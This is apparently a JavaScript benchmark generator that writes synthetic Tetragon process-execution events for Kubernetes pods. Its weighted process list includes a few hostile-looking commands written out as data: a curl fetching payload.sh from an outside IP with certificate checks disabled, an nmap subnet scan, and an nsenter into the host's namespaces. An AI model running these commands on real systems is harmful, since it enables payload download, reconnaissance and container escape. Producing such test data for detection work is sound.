// Generates realistic Tetragon process_exec events for the benchmarks (deterministic for a given count
// and seed): ~1.4 KB each, ~2% curl (half of them with -k/--insecure), shells, tooling, workloads.
import { createWriteStream, existsSync, mkdirSync, statSync } from 'node:fs';
import { dirname } from 'node:path';
import { containerIdFor, processExec, rfc3339, rng } from '../scripts/tetragon-factory.mjs';

const NAMESPACES = ['shop', 'payments', 'monitoring', 'ci', 'data', 'default'];
const IMAGES = ['docker.io/acme/frontend:1.4.2', 'docker.io/library/ubuntu:22.04', 'docker.io/grafana/grafana:12.0.1', 'quay.io/isovalent/tetragon-ci:v1.2.0', 'docker.io/acme/etl:0.9.1', 'docker.io/library/nginx:1.27'];
const PROCS = [
  // [weight, binary, args, parent]
  [30, '/usr/local/bin/node', 'server.js --port 8080 --log-level info', '/usr/bin/containerd-shim-runc-v2'],
  [15, '/usr/bin/python3', '/app/worker.py --queue orders --concurrency 4', '/bin/sh'],
  [10, '/bin/sh', '-c "/app/healthcheck.sh --timeout 5"', '/usr/bin/containerd-shim-runc-v2'],
  [6, '/bin/bash', '-c "tar czf /backup/data.tgz /var/lib/data"', '/usr/sbin/cron'],
  [8, '/bin/cat', '/proc/self/status', '/bin/sh'],
  [8, '/usr/bin/java', '-Xmx512m -jar /app/payments.jar --spring.profiles.active=prod', '/usr/bin/containerd-shim-runc-v2'],
  [6, '/bin/ls', '-la /var/lib/app/cache', '/bin/sh'],
  [5, '/usr/sbin/nginx', '-g "daemon off;"', '/usr/bin/containerd-shim-runc-v2'],
  [4, '/bin/ps', 'aux', '/bin/bash'],
  [3, '/usr/bin/find', '/tmp -mtime +7 -delete', '/bin/sh'],
  [1, '/usr/bin/curl', '-s -o /dev/null -w %{http_code} http://checkout.shop.svc:8080/health', '/bin/sh'],
  [1, '/usr/bin/curl', '-sSLk https://203.0.113.9/payload.sh -o /tmp/x.sh', '/bin/sh'],
  [1, '/usr/bin/nmap', '-sS -p 1-1024 10.0.0.0/24', '/bin/bash'],
  [1, '/usr/bin/crontab', '-l', '/bin/sh'],
  [1, '/usr/bin/nsenter', '-t 1 -m -u -n -i -p bash', '/bin/bash'],
];

export function generate(file, count, seed = 1) {
  if (existsSync(file) && statSync(file).size > count * 1000) return Promise.resolve(file);
  mkdirSync(dirname(file), { recursive: true });
  const r = rng(seed);
  const total = PROCS.reduce((s, p) => s + p[0], 0);
  const pods = Array.from({ length: 48 }, (_, i) => {
    const ns = NAMESPACES[i % NAMESPACES.length];
    const name = `${ns}-svc-${(i * 7919).toString(36)}-${(i * 104729).toString(36).slice(0, 5)}`;
    return {
      name,
      namespace: ns,
      image: IMAGES[i % IMAGES.length],
      containerId: containerIdFor(name),
      containerName: `${ns}-svc`,
      containerStart: rfc3339(1795140000 + i * 61.25),
      workload: `${ns}-svc`,
      workloadKind: 'Deployment',
    };
  });
  const out = createWriteStream(file);
  const t0 = 1795168800; // 2026-11-20T10:00:00Z
  let i = 0;
  return new Promise((resolve, reject) => {
    out.on('error', reject);
    const write = () => {
      let ok = true;
      while (i < count && ok) {
        let x = r() * total;
        let p = PROCS[0];
        for (const cand of PROCS) {
          x -= cand[0];
          if (x <= 0) {
            p = cand;
            break;
          }
        }
        const pod = pods[Math.floor(r() * pods.length)];
        const time = t0 + (i * 3600) / count; // one hour of events
        const pid = 100000 + i;
        const ev = processExec({
          time,
          node: `ip-10-0-${1 + (pid % 3)}-${17 + (pid % 5)}.eu-west-1.compute.internal`,
          cluster: 'prod-eu-1',
          process: { binary: p[1], args: p[2], pid, uid: r() < 0.8 ? 0 : 1000, cwd: '/app', start: time - 0.0002, pod },
          parent: { binary: p[3], args: p[3].endsWith('shim-runc-v2') ? '-namespace k8s.io -id ' + pod.containerId.slice(0, 24) : undefined, pid: pid - 7, start: time - 30, pod: p[3].endsWith('shim-runc-v2') ? null : pod, cwd: '/app' },
        });
        ok = out.write(JSON.stringify(ev) + '\n');
        i++;
      }
      if (i < count) out.once('drain', write);
      else out.end(() => resolve(file));
    };
    write();
  });
}
